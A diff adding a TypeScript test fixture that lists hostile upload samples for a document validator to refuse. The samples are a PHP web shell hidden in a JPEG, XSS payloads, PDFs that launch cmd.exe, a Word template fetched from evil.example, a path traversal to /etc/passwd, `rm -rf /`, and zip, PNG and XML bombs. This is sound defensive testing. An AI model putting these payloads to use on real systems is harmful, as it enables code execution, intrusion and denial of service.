@@ -1,0 +1,213 @@
+import { crc32, deflateSync } from 'node:zlib';
+
+import { canvas, leafPhoto, movingPicture } from '#server/testing/photos.ts';
+
+import { makeArchive, makeCompound, makeDoc, makeDocx, makePdf, makeXls, makeXlsx, paperPhoto } from './papers.ts';
+
+export interface BadFile {
+  what: string;
+  name: string;
+  /** The code it is refused with. */
+  code: string;
+  make: () => Buffer | Promise<Buffer>;
+}
+
+const text = (words: string) => () => Buffer.from(words);
+const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
+const page = '<html><script>alert(1)</script></html>';
+const megabytes = (count: number) => Buffer.alloc(count * 1024 * 1024);
+const entry = (name: string, content: Buffer | string = 'x') => ({ name, content });
+const bad = (what: string, name: string, code: string, make: BadFile['make']): BadFile => ({ what, name, code, make });
+
+const type = 'document_type_refused';
+const damaged = 'document_damaged';
+const locked = 'document_encrypted';
+const macros = 'document_has_macros';
+const program = 'document_has_program';
+const two = 'document_of_two_kinds';
+const bomb = 'document_unpacks_too_large';
+
+/** Little of it is there; a program that made room before it looked would ask for 3.6 GB. */
+async function bombPng(sidePx: number): Promise<Buffer> {
+  const png = await canvas(80, 80).png().toBuffer();
+  png.writeUInt32BE(sidePx, 16);
+  png.writeUInt32BE(sidePx, 20);
+  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
+  return png;
+}
+
+function packed(content: Buffer | string, dictionary = ''): Buffer {
+  const data = deflateSync(content, { level: 9 });
+  const head = `9 0 obj\n<< ${dictionary} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`;
+  return Buffer.concat([Buffer.from(head), data, Buffer.from('\nendstream\nendobj\n')]);
+}
+
+async function withTail(tail: Buffer): Promise<Buffer> {
+  return Buffer.concat([await paperPhoto({ widthPx: 300, heightPx: 300 }), tail]);
+}
+
+const notOurs = [
+  bad('nothing', 'a.pdf', type, () => Buffer.alloc(0)),
+  bad('the EICAR test virus', 'eicar.com', type, text(eicar)),
+  bad('the EICAR test virus, named as a PDF', 'eicar.pdf', type, text(eicar)),
+  bad(
+    'an SVG with a script',
+    'map.svg',
+    type,
+    text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+  ),
+  bad('an SVG named as a PNG', 'map.png', type, text('<svg xmlns="http://www.w3.org/2000/svg"/>')),
+  bad('a page', 'page.html', type, text(page)),
+  bad('a page named as a PDF', 'page.pdf', type, text(page)),
+  bad('a Windows program', 'setup.exe', type, text('MZ\u0090\0')),
+  bad('a Windows program named as a photo', 'photo.jpg', type, text('MZ\u0090\0')),
+  bad('a Linux program', 'khata', type, text('\u{7f}ELF\u{2}\u{1}')),
+  bad('a shell script', 'run.sh', type, text('#!/bin/sh\nrm -rf /')),
+  bad('plain words named as a Word file', 'deed.docx', type, text('deed')),
+  bad('a WebP', 'leaf.webp', type, () => canvas(80, 80).webp().toBuffer()),
+  bad('a TIFF', 'scan.tiff', type, () => canvas(80, 80).tiff().toBuffer()),
+  bad('a bitmap', 'scan.bmp', type, text('BM\0\0\0\0')),
+  bad('an AVIF', 'leaf.avif', type, () => canvas(80, 80).avif().toBuffer()),
+  bad('an iPhone’s HEIC', 'IMG_1.HEIC', 'picture_heic', text('\0\0\0\u{18}ftypheic\0\0\0\0mif1heic')),
+  bad('a RAR archive', 'papers.rar', type, text('Rar!\u{1a}\u{7}')),
+  bad('a 7-Zip archive', 'papers.7z', type, text('7z\u{bc}\u{af}')),
+  bad('a gzip', 'papers.pdf.gz', type, () => Buffer.from([0x1f, 0x8b, 8, 0])),
+  bad('a ZIP of papers', 'papers.zip', type, () => makeArchive([entry('khasra.pdf')])),
+  bad('a PowerPoint file', 'talk.pptx', type, () =>
+    makeArchive([entry('[Content_Types].xml'), entry('ppt/presentation.xml')]),
+  ),
+  bad('an Android app named as a Word file', 'app.docx', type, () =>
+    makeArchive([entry('AndroidManifest.xml'), entry('classes.dex')]),
+  ),
+  bad('an old PowerPoint file', 'talk.ppt', type, () => makeCompound([{ name: 'PowerPoint Document' }])),
+  bad('an Outlook mail', 'mail.msg', type, () => makeCompound([{ name: '__properties_version1.0' }])),
+  bad('a Windows installer', 'setup.msi', type, () => makeCompound([{ name: '\u{5}SummaryInformation' }])),
+  bad('a video', 'plot.mp4', type, text('\0\0\0\u{18}ftypmp42')),
+  bad('a PDF with junk before its beginning', 'a.pdf', type, () => Buffer.concat([Buffer.from('junk'), makePdf()])),
+];
+
+const pictures = [
+  bad('a PNG of 30,000 × 30,000', 'map.png', 'picture_too_many_pixels', () => bombPng(30_000)),
+  bad('a JPEG of 8,000 × 8,000', 'map.jpg', 'picture_too_many_pixels', () =>
+    canvas(8000, 8000).jpeg({ quality: 1 }).toBuffer(),
+  ),
+  bad('a GIF that moves', 'move.gif', 'picture_animated', () => movingPicture('gif')),
+  bad('a photo cut short', 'cut.jpg', 'picture_damaged', async () => (await leafPhoto()).subarray(0, 5000)),
+  bad('the first bytes of a photo', 'start.jpg', 'picture_damaged', () => Buffer.from([0xff, 0xd8, 0xff, 0xe0])),
+  bad('a PNG broken inside', 'broken.png', 'picture_damaged', async () =>
+    (await canvas(200, 200).png().toBuffer()).fill(0x55, 60, 120),
+  ),
+  bad('a GIF of no size', 'none.gif', 'picture_damaged', text('GIF89a\0\0\0\0')),
+  bad('a GIF that is also a script', 'code.gif', two, text('GIF89a/*<script>*/=1;alert(1)')),
+  bad('a photo that is also an archive', 'photo.jpg', two, () => withTail(makeArchive([entry('run.exe')]))),
+  bad('a photo that is also a Java program', 'photo.jpg', two, () =>
+    withTail(makeArchive([entry('META-INF/MANIFEST.MF')], { comment: 'jar' })),
+  ),
+  bad('a photo that is also a PDF', 'photo.jpg', two, () => withTail(makePdf())),
+  bad('a photo that is also a page', 'photo.jpg', two, () => withTail(Buffer.from(page))),
+  bad('a photo with PHP in it', 'photo.jpg', two, () => withTail(Buffer.from('<?php system($_GET[0]);'))),
+];
+
+const pdfs = [
+  bad('a PDF locked with a password', 'locked.pdf', locked, () => makePdf({ trailer: '/Encrypt 9 0 R' })),
+  bad('a PDF with its lock written in place', 'locked.pdf', locked, () =>
+    makePdf({ trailer: '/Encrypt << /Filter /Standard /V 2 >>' }),
+  ),
+  bad('a PDF that starts a program', 'run.pdf', program, () =>
+    makePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
+  ),
+  bad('a PDF that starts one under a hidden name', 'run.pdf', program, () =>
+    makePdf({ catalog: '/OpenAction << /S /L#61unch /F (cmd.exe) >>' }),
+  ),
+  bad('a PDF that starts one out of a packed object', 'run.pdf', program, () =>
+    makePdf({ objects: [packed('7 0 << /S /Launch /F (cmd.exe) >>', '/Type /ObjStm /N 1 /First 4')] }),
+  ),
+  bad('a PDF with a file inside', 'parcel.pdf', program, () =>
+    makePdf({ catalog: '/Names << /EmbeddedFiles 9 0 R >>' }),
+  ),
+  bad('a PDF with a film inside', 'film.pdf', program, () =>
+    makePdf({ objects: ['9 0 obj\n<< /Subtype /RichMedia >>\nendobj\n'] }),
+  ),
+  bad('a PDF with a packed page of 30 MB', 'bomb.pdf', bomb, () => makePdf({ objects: [packed(megabytes(30))] })),
+  bad('a PDF with many packed pages', 'bomb.pdf', bomb, () => {
+    const one = packed(megabytes(20));
+    return makePdf({ objects: Array.from({ length: 4 }, () => one) });
+  }),
+  bad('a PDF with a picture of 30,000 × 30,000', 'bomb.pdf', bomb, () => {
+    const content = Buffer.from([0xff, 0xd8, 0xff]);
+    return makePdf({ jpeg: { content, widthPx: 30_000, heightPx: 30_000 } });
+  }),
+  bad('a PDF that is also an archive', 'both.pdf', two, () =>
+    Buffer.concat([makePdf(), makeArchive([entry('run.exe')])]),
+  ),
+  bad('a PDF that is also a page', 'both.pdf', two, text(`%PDF-1.4\n${page}`)),
+];
+
+const office = [
+  bad('a Word file with a macro', 'deed.docm', macros, () => makeDocx([entry('word/vbaProject.bin')])),
+  bad('the same, named .docx', 'deed.docx', macros, () => makeDocx([entry('word/vbaProject.bin')])),
+  bad('a Word file that says it has macros', 'deed.docx', macros, () =>
+    makeArchive([
+      entry('[Content_Types].xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
+      entry('word/document.xml'),
+    ]),
+  ),
+  bad('an Excel file with a macro', 'sums.xlsm', macros, () => makeXlsx([entry('xl/vbaProject.bin')])),
+  bad('an Excel file with a macro sheet', 'sums.xlsx', macros, () => makeXlsx([entry('xl/macrosheets/sheet1.xml')])),
+  bad('a Word file with an ActiveX part', 'deed.docx', macros, () => makeDocx([entry('word/activeX/activeX1.bin')])),
+  bad('a Word file that fetches its template', 'deed.docx', program, () =>
+    makeDocx([
+      entry(
+        'word/_rels/settings.xml.rels',
+        '<Relationship Type="…/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
+      ),
+    ]),
+  ),
+  bad('a Word file with a program inside', 'deed.docx', program, () => makeDocx([entry('word/embeddings/setup.exe')])),
+  bad('a Word file with a locked part', 'deed.docx', locked, () => makeDocx([{ ...entry('word/x.xml'), flags: 1 }])),
+  bad('a Word file with a name outside its folder', 'deed.docx', damaged, () => makeDocx([entry('../../etc/passwd')])),
+  bad('a Word file that says it unpacks to 300 MB', 'deed.docx', bomb, () =>
+    makeDocx([{ ...entry('word/media/a.bin'), saysBytes: 300 * 1024 * 1024 }]),
+  ),
+  bad('a Word file that says less than it unpacks to', 'deed.docx', bomb, () =>
+    makeDocx([{ ...entry('word/media/a.bin', megabytes(5)), saysBytes: 100 }]),
+  ),
+  bad('a Word file whose parts share their bytes', 'deed.docx', bomb, () =>
+    makeDocx([entry('word/a.bin', megabytes(1)), { ...entry('word/b.bin', megabytes(1)), sharesWith: 2 }]),
+  ),
+  bad('a Word file of a billion laughs', 'deed.docx', bomb, () =>
+    makeDocx([entry('word/x.xml', '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]>')]),
+  ),
+  bad('a Word file of 3,000 parts', 'deed.docx', bomb, () =>
+    makeDocx(Array.from({ length: 3000 }, (_, at) => entry(`word/${at}.bin`))),
+  ),
+  bad('a Word file cut short', 'deed.docx', damaged, () => makeDocx().subarray(0, 200)),
+  bad('a Word file whose table points nowhere', 'deed.docx', damaged, () => {
+    const file = makeDocx();
+    file.writeUInt32LE(5, file.length - 6);
+    return file;
+  }),
+  bad('an old Word file with a macro', 'deed.doc', macros, () => makeDoc([{ name: '_VBA_PROJECT' }])),
+  bad('an old Word file with a password', 'deed.doc', locked, () => makeDoc([], 0x0100)),
+  bad('a new Word file with a password', 'deed.docx', locked, () =>
+    makeCompound([{ name: 'EncryptionInfo' }, { name: 'EncryptedPackage' }]),
+  ),
+  bad('an old Word file with a program inside', 'deed.doc', program, () => makeDoc([{ name: '\u{1}Ole10Native' }])),
+  bad('an old Excel file with a password', 'sums.xls', locked, () => makeXls([[0x002f, Buffer.alloc(6)]])),
+  bad('an old Excel file with a macro sheet', 'sums.xls', macros, () =>
+    makeXls([[0x0085, Buffer.from([0, 0, 0, 0, 0, 1, 0, 0])]]),
+  ),
+  bad('an old Word file cut short', 'deed.doc', damaged, () => makeDoc().subarray(0, 1000)),
+  bad('an old Word file whose list runs in a ring', 'deed.doc', damaged, () => {
+    const file = makeDoc();
+    file.writeUInt32LE(1, 512 + 4);
+    return file;
+  }),
+];
+
+const tooLarge = [
+  bad('more than 10 MB', 'large.pdf', 'document_too_large', () => Buffer.concat([makePdf(), megabytes(10)])),
+];
+
+/** Made here, never stored: what must not come in, with the reason each is given. */
+export const badFiles: readonly BadFile[] = [...notOurs, ...pictures, ...pdfs, ...office, ...tooLarge];
